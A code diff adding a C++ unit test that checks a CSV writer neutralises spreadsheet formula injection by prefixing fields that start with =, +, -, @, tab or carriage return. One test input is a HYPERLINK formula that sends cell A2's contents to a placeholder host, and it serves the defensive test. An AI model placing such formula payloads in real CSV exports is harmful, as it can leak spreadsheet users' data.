@@ -67,5 +67,22 @@ TEST(CsvWriter, QuotesOnlyWhenNeeded) {
   EXPECT_EQ(out, "plain,\"a,\"\"b\"\"\"");
 }
 
+TEST(CsvWriter, NeutralisesFormulas) {
+  auto field = [](std::string_view f) {
+    std::string out;
+    csv_append_field(out, f);
+    return out;
+  };
+  EXPECT_EQ(field("=HYPERLINK(\"http://x\"&A2,\"Open\")"),
+            "\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"Open\"\")\"");
+  EXPECT_EQ(field("+1"), "'+1");
+  EXPECT_EQ(field("-2+3"), "'-2+3");
+  EXPECT_EQ(field("@SUM(A1)"), "'@SUM(A1)");
+  EXPECT_EQ(field("\t=1"), "'\t=1");
+  EXPECT_EQ(field("\r=1"), "\"'\r=1\"");
+  EXPECT_EQ(field("Ada = Lovelace"), "Ada = Lovelace");
+  EXPECT_EQ(field(""), "");
+}
+
 }  // namespace
 }  // namespace broadsheet::cli
